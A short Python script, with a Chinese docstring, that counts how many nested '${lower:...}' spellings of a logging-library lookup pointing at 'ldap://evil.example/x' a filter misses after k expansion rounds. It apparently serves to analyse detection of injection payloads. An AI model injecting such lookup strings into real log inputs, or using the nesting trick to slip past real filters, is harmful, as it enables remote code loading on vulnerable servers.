"""过滤器先替日志库展开k轮再找标记，还漏掉多少种写法。fetch的每个字母可以照写，也可以套1到3层lower。"""
import itertools
import re

INNER = re.compile(r"\$\{lower:([^${}]*)\}")


def wrap(letter, depth):
    for _ in range(depth):
        letter = "${lower:" + letter + "}"
    return letter


def rounds(text, k):
    for _ in range(k):
        text = INNER.sub(lambda m: m.group(1).lower(), text)
    return text


writings = ["${" + "".join(map(wrap, "fetch", depths)) + ":ldap://evil.example/x}"
            for depths in itertools.product(range(4), repeat=5)]
print("展开几轮 找得到 漏掉")
for k in range(4):
    found = sum("${fetch:" in rounds(text, k) for text in writings)
    print(k, found, len(writings) - found)
